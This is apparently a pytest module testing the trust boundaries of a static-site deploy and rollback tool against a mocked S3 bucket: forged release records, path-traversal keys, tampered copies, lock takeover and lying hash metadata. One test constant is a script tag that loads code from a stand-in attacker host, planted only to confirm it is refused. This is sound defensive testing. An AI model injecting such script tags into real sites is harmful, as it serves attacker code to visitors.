"""Trust boundaries of releases on the moto server: what someone who can write a site's state folder can make a rollback do.

Each attack is what a writer of ``.runway-ext/`` (a CI role scoped to the state folder, a compromised job) or a
neighbour site's deploy can do; each test fails on a version without the boundary it names.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import boto3
import pytest

from runway_ext.static_site.layout import blob_key, release_key
from tests.hooks.site.test_rollback import BUCKET, REPO, deploy, rollback, s3_calls, s3_versioned, version

__all__ = ["s3_calls", "s3_versioned"]


def everything(s3: Any) -> dict[str, bytes]:
    """Every key of the bucket with its bytes."""
    keys = [item["Key"] for page in s3.get_paginator("list_objects_v2").paginate(Bucket=BUCKET) for item in page.get("Contents", [])]
    return {key: s3.get_object(Bucket=BUCKET, Key=key)["Body"].read() for key in keys}


def forge(s3: Any, prefix: str, rid: str, extra: dict[str, str]) -> None:
    """Rewrite a release record so that it also names ``extra`` keys (each with the state of an existing key)."""
    key = release_key(prefix, rid)
    record = json.loads(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())
    for forged, like in extra.items():
        record["objects"][forged] = record["objects"][like]
    s3.put_object(Bucket=BUCKET, Key=key, Body=json.dumps(record).encode())


def errors(run: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in run.stderr.splitlines() if line.startswith("error")]


def cli(aws: Any, *argv: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, **aws.environment(), "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "runway_ext", "site", *argv], env=environment, capture_output=True, text=True, timeout=120)


# -- 1. a forged record escapes its prefix -----------------------------------------------------------------
@pytest.mark.parametrize(
    "forged",
    [
        "b/index.html",  # another site's page
        "index.html",  # the root page
        "a/../escape.html",  # a key with '..'
        "a/.runway-ext/site-manifest.json",  # the state folder as a target
        "a//double.html",  # an empty segment
        "a/./dot.html",
    ],
)
def test_a_forged_record_naming_a_key_outside_its_site_is_refused_whole(s3_versioned: Any, tmp_path: Path, aws: Any, forged: str) -> None:
    deploy(tmp_path / "b", {"index.html": b"<h1>site b</h1>"}, prefix="b/")
    s3_versioned.put_object(Bucket=BUCKET, Key="index.html", Body=b"<h1>root</h1>")
    deploy(tmp_path / "a", version(1), prefix="a/")
    deploy(tmp_path / "a", version(2), prefix="a/")
    forge(s3_versioned, "a/", "r1", {forged: "a/index.html"})
    before = everything(s3_versioned)
    run = cli(aws, "rollback", "--bucket-name", BUCKET, "--prefix", "a/", "--to", "r1")
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
    assert len(run.stderr.strip().splitlines()) == 1 and "may not write" in run.stderr and "nothing was written" in run.stderr, run.stderr
    assert everything(s3_versioned) == before


def test_a_record_that_does_not_fit_the_model_is_refused_in_one_line(s3_versioned: Any, tmp_path: Path, aws: Any) -> None:
    deploy(tmp_path, version(1))
    deploy(tmp_path, version(2))
    key = release_key("", "r1")
    record = json.loads(s3_versioned.get_object(Bucket=BUCKET, Key=key)["Body"].read())
    record["objects"]["index.html"]["size"] = 1e300
    s3_versioned.put_object(Bucket=BUCKET, Key=key, Body=json.dumps(record).encode())
    before = everything(s3_versioned)
    run = cli(aws, "rollback", "--bucket-name", BUCKET, "--to", "r1")
    assert run.returncode == 1 and len(run.stderr.strip().splitlines()) == 1, run.stderr
    assert "release r1: its record: objects.index.html.size" in run.stderr, run.stderr
    assert everything(s3_versioned) == before


# -- 3. one site's deploy deletes a neighbour -------------------------------------------------------------
@pytest.mark.parametrize(("outer", "inner"), [("docs/", "docs/v2/"), ("", "b/")])
def test_a_delete_deploy_of_the_outer_site_leaves_the_inner_site_whole(
    s3_versioned: Any, tmp_path: Path, outer: str, inner: str, caplog: pytest.LogCaptureFixture
) -> None:
    deploy(tmp_path / "inner", {"index.html": b"<h1>inner v1</h1>"}, prefix=inner)
    deploy(tmp_path / "inner", {"index.html": b"<h1>inner v2</h1>"}, prefix=inner)
    inner_keys = {key: data for key, data in everything(s3_versioned).items() if key.startswith(inner)}
    assert any("/.runway-ext/releases/" in key for key in inner_keys)
    with caplog.at_level("INFO"):
        deploy(tmp_path / "outer", version(1), prefix=outer)
        deploy(tmp_path / "outer", version(2), prefix=outer)
        assert rollback(prefix=outer, to="r1")
    assert {key: data for key, data in everything(s3_versioned).items() if key.startswith(inner)} == inner_keys
    assert f"{inner} holds another site" in caplog.text
    assert rollback(prefix=inner, to="r1")  # and the inner site still rolls back on its own
    assert s3_versioned.get_object(Bucket=BUCKET, Key=inner + "index.html")["Body"].read() == b"<h1>inner v1</h1>"


def test_an_outer_build_with_files_in_the_inner_site_is_refused(
    s3_versioned: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from runway_ext.hooks.npm_build import build_and_sync_app
    from tests.hooks.site.test_rollback import write_site

    deploy(tmp_path / "inner", {"index.html": b"<h1>inner</h1>"}, prefix="docs/v2/")
    before = everything(s3_versioned)
    app = write_site(tmp_path / "outer", {"index.html": b"<h1>outer</h1>", "v2/index.html": b"<h1>overwrite</h1>"})
    with caplog.at_level("ERROR"):
        result = build_and_sync_app(
            None, None, bucket_name=BUCKET, app_path=str(app), build=False, output_dir="out", delete=True, prefix="docs/"
        )
    assert result is False
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 1 and "docs/v2/" in errors[0] and "another site" in errors[0], errors
    assert everything(s3_versioned) == before


def test_a_forged_outer_record_naming_an_inner_key_is_refused(s3_versioned: Any, tmp_path: Path, aws: Any) -> None:
    deploy(tmp_path / "inner", {"index.html": b"<h1>inner</h1>"}, prefix="docs/v2/")
    deploy(tmp_path / "outer", version(1), prefix="docs/")
    deploy(tmp_path / "outer", version(2), prefix="docs/")
    forge(s3_versioned, "docs/", "r1", {"docs/v2/index.html": "docs/index.html"})
    before = everything(s3_versioned)
    run = cli(aws, "rollback", "--bucket-name", BUCKET, "--prefix", "docs/", "--to", "r1")
    assert run.returncode == 1 and "belongs to another site (docs/v2/)" in run.stderr, run.stderr
    assert everything(s3_versioned) == before


# -- 2. a tampered retained copy is restored as if genuine ------------------------------------------------
@pytest.fixture
def s3_unversioned(aws: Any) -> Any:
    client = boto3.client("s3")
    client.create_bucket(Bucket=BUCKET)
    return client


def _copy_of(s3: Any, content: bytes) -> str:
    return blob_key("", hashlib.sha256(content).hexdigest())


EVIL = b'<script src="//evil.example/x.js">'


def test_a_tampered_retained_copy_is_refused_and_nothing_changes(s3_unversioned: Any, tmp_path: Path, aws: Any) -> None:
    v1 = version(1)
    v1["index.html"] = b"<h1>home v1</h1>".ljust(len(EVIL), b" ")
    deploy(tmp_path, v1)
    deploy(tmp_path, version(2))
    copy = _copy_of(s3_unversioned, v1["index.html"])
    s3_unversioned.put_object(Bucket=BUCKET, Key=copy, Body=EVIL, Metadata={"sha256": hashlib.sha256(v1["index.html"]).hexdigest()})
    before = everything(s3_unversioned)
    run = cli(aws, "rollback", "--bucket-name", BUCKET, "--to", "r1")
    assert run.returncode == 1 and len(errors(run)) == 1 and "Traceback" not in run.stderr, run.stderr
    assert "are not the release's, e.g. index.html" in run.stderr and "nothing was changed" in run.stderr, run.stderr
    assert everything(s3_unversioned) == before
    assert EVIL not in s3_unversioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read()


def test_a_retained_copy_with_s3s_sha256_is_proven_without_reading_it(
    s3_unversioned: Any, tmp_path: Path, s3_calls: list[tuple[str, dict[str, Any]]]
) -> None:
    deploy(tmp_path, version(1))
    deploy(tmp_path, version(2))
    head = s3_unversioned.head_object(Bucket=BUCKET, Key=_copy_of(s3_unversioned, b"<h1>home v1</h1>"), ChecksumMode="ENABLED")
    assert head["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(b"<h1>home v1</h1>").digest()).decode()
    s3_calls.clear()
    assert rollback(to="r1")
    assert not [params["Key"] for operation, params in s3_calls if operation == "GetObject" and "/objects/" in params["Key"]]
    assert s3_unversioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read() == b"<h1>home v1</h1>"


def test_an_older_copy_without_a_sha256_is_read_and_hashed(s3_unversioned: Any, tmp_path: Path) -> None:
    """A copy kept by a version that wrote no checksum: genuine bytes are restored, other bytes refused."""
    deploy(tmp_path, version(1))
    deploy(tmp_path, version(2))
    copy = _copy_of(s3_unversioned, b"<h1>home v1</h1>")
    s3_unversioned.put_object(Bucket=BUCKET, Key=copy, Body=b"<h1>home v1</h1>")  # the client's CRC32 only
    assert "ChecksumSHA256" not in s3_unversioned.head_object(Bucket=BUCKET, Key=copy, ChecksumMode="ENABLED")
    assert rollback(to="r1")
    assert s3_unversioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read() == b"<h1>home v1</h1>"


def test_a_copy_changed_between_the_proof_and_the_copy_is_not_published(
    s3_unversioned: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from runway_ext.static_site import proof

    deploy(tmp_path, version(1))
    deploy(tmp_path, version(2))
    copy = _copy_of(s3_unversioned, b"<h1>home v1</h1>")
    original = proof.prove_sources

    def prove_then_tamper(*args: Any) -> dict[str, str]:
        proven = original(*args)
        s3_unversioned.put_object(Bucket=BUCKET, Key=copy, Body=b"<h1>evil!!</h1>!")
        return proven

    monkeypatch.setattr("runway_ext.hooks.site.rollback.prove_sources", prove_then_tamper)
    assert rollback(to="r1") is False
    assert s3_unversioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read() == b"<h1>home v2</h1>"


# -- 4. the site lock, seen from another pid namespace ---------------------------------------------------
def _foreign_lock(s3: Any, *, ttl: float, pid_ns: str, boot_id: str | None = None) -> str:
    """A live lock as a deploy on a host of the same name writes it (its pid is not one of ours); returns its owner."""
    import socket

    from runway_ext.static_site.layout import manifest_key
    from runway_ext.static_site.lock import this_identity
    from runway_ext.static_site.manifest import SiteLock, SiteManifest, render_manifest

    here = this_identity()
    owner = f"ci@{socket.gethostname()} pid 4194000"
    lock = SiteLock(owner, socket.gethostname(), 4194000, "f" * 32, ttl, boot_id if boot_id is not None else here.boot_id, pid_ns)
    body = render_manifest(SiteManifest("", "", {}, state="syncing", lock=lock), written_by="another runner")
    s3.put_object(Bucket=BUCKET, Key=manifest_key(""), Body=body)
    return owner


def _deploy_result(tmp_path: Path, **args: Any) -> Any:
    from runway_ext.hooks.npm_build import build_and_sync_app
    from tests.hooks.site.test_rollback import write_site

    app = write_site(tmp_path / "racer", version(9))
    return build_and_sync_app(None, None, bucket_name=BUCKET, app_path=str(app), build=False, output_dir="out", delete=True, **args)


def test_a_live_lock_from_another_pid_namespace_on_a_host_of_the_same_name_is_not_taken_over(
    s3_versioned: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    deploy(tmp_path, version(1))
    before = everything(s3_versioned)
    owner = _foreign_lock(s3_versioned, ttl=900, pid_ns="4026531111")
    with caplog.at_level("ERROR"):
        assert _deploy_result(tmp_path) is False
        assert rollback(to="r1") is False
    refusals = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(refusals) == 2 and all(f"another deploy ({owner}) is syncing this site" in line for line in refusals), refusals
    assert all("break_lock" in line and "nothing was changed" in line for line in refusals)
    assert {
        key: data for key, data in everything(s3_versioned).items() if "/.runway-ext/" not in key and not key.startswith(".runway-ext/")
    } == {key: data for key, data in before.items() if not key.startswith(".runway-ext/")}
    assert _deploy_result(tmp_path, break_lock=owner)  # the way out, naming the owner
    assert s3_versioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read() == b"<h1>home v9</h1>"


def test_a_dead_pid_in_this_very_namespace_shortens_the_wait(s3_versioned: Any, tmp_path: Path) -> None:
    from runway_ext.static_site.lock import this_identity

    deploy(tmp_path, version(1))
    _foreign_lock(s3_versioned, ttl=900, pid_ns=this_identity().pid_ns)
    assert _deploy_result(tmp_path)


@pytest.mark.parametrize("ttl", [float("nan"), float("inf"), 1e300])
def test_a_hostile_ttl_is_clamped_and_the_refusal_says_how_to_recover(
    s3_versioned: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture, ttl: float
) -> None:
    deploy(tmp_path, version(1))
    owner = _foreign_lock(s3_versioned, ttl=ttl, pid_ns="4026531111")
    with caplog.at_level("ERROR"):
        assert _deploy_result(tmp_path) is False
    refusal = next(r.getMessage() for r in caplog.records if r.levelname == "ERROR")
    assert "nan" not in refusal and "inf" not in refusal, refusal
    assert re.search(r"its lock expires in 86[34]\d\ds", refusal) and repr(owner) in refusal, refusal  # the 24 h cap


# -- site objects: a content hash is S3's, never the metadata its writer chose ---------------------------
def _tamper_with_a_lying_hash(s3: Any, key: str, genuine: bytes, content_type: str) -> None:
    """Other bytes of the same size and headers, uploaded in one multipart part (so the ETag is no MD5 of them),
    with ``x-amz-meta-sha256`` claiming the genuine bytes' hash."""
    assert len(EVIL) >= len(genuine)
    head = s3.head_object(Bucket=BUCKET, Key=key)
    upload = s3.create_multipart_upload(
        Bucket=BUCKET,
        Key=key,
        ContentType=content_type,
        CacheControl=head["CacheControl"],
        Metadata={"sha256": hashlib.sha256(genuine).hexdigest()},
    )
    part = s3.upload_part(Bucket=BUCKET, Key=key, UploadId=upload["UploadId"], PartNumber=1, Body=EVIL[: len(genuine)])
    s3.complete_multipart_upload(
        Bucket=BUCKET, Key=key, UploadId=upload["UploadId"], MultipartUpload={"Parts": [{"PartNumber": 1, "ETag": part["ETag"]}]}
    )
    assert "-" in s3.head_object(Bucket=BUCKET, Key=key)["ETag"]


def test_a_deploy_repairs_a_site_object_whose_metadata_claims_the_builds_hash(s3_versioned: Any, tmp_path: Path) -> None:
    v1 = version(1)
    deploy(tmp_path, v1)
    _tamper_with_a_lying_hash(s3_versioned, "index.html", v1["index.html"], "text/html; charset=utf-8")
    deploy(tmp_path, v1)
    assert s3_versioned.get_object(Bucket=BUCKET, Key="index.html")["Body"].read() == v1["index.html"]


def test_a_rollback_restores_a_site_object_whose_metadata_claims_the_targets_hash(s3_versioned: Any, tmp_path: Path) -> None:
    v1 = version(1)
    deploy(tmp_path, v1)
    deploy(tmp_path, version(2))
    page = "page-02/index.html"  # in both releases, same bytes
    _tamper_with_a_lying_hash(s3_versioned, page, v1[page], "text/html; charset=utf-8")
    assert rollback(to="r1")
    assert s3_versioned.get_object(Bucket=BUCKET, Key=page)["Body"].read() == v1[page]
